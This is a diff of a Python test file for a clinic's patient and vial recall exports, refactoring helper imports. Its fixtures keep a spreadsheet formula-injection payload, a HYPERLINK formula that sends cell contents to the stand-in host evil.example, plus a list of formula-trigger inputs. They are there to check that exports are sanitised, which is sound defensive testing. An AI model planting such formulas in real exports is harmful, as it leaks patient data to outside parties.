@@ -12,11 +12,11 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from inventory.errors import NotFound, ValidationError
-from inventory.models import AuditEvent, Role
+from inventory.models import AuditEvent
 from inventory.services.permissions import Scope
 from recall import exports, services
 from tests import recall_helpers as rh
-from tests.factories import NOW, make_user
+from tests.factories import NOW, patient, reconstitute
 
 LATER = NOW + dt.timedelta(hours=3)
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -26,11 +26,11 @@ NASTY = ["+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
 @pytest.fixture
 def case(world, session):
     rh.share_toxins(world)
-    vial = rh.reconstitute(world, world.container("botox", lot="EX1"))
-    evil = rh.patient(world, "@REF1", name=EVIL_NAME)
-    plain = rh.patient(world, "L-2", name="Zoë Brontë")
-    far = rh.patient(world, "N-1", clinic=world.other_clinic, name="Ned Ray")
-    vial_ny = rh.reconstitute(world, world.container("botox", lot="EX1", location=world.location("Fridge",
+    vial = reconstitute(world, world.container("botox", lot="EX1"))
+    evil = patient(world, "@REF1", name=EVIL_NAME)
+    plain = patient(world, "L-2", name="Zoë Brontë")
+    far = patient(world, "N-1", clinic=world.other_clinic, name="Ned Ray")
+    vial_ny = reconstitute(world, world.container("botox", lot="EX1", location=world.location("Fridge",
                                                                                                  world.other_clinic)))
     rh.give(world, rh.treat(world, evil), vial, "4", area="glabella")
     rh.give(world, rh.treat(world, plain), vial, "6", area="forehead")
@@ -101,7 +101,7 @@ def test_container_list_as_xlsx_and_csv(world, session, case):
 
 
 def test_a_clinic_level_export_holds_only_that_clinics_rows(world, session, case):
-    lon_lead = make_user(session, "lon-safety", Role.SAFETY_LEAD, [world.clinic])
+    lon_lead = world.lon_safety_lead()
     rows = csv_rows(export(session, world, case, "patients", "csv", user=lon_lead).content)
     assert sorted(row[0] for row in rows[1:]) == ["LON", "LON"]
 
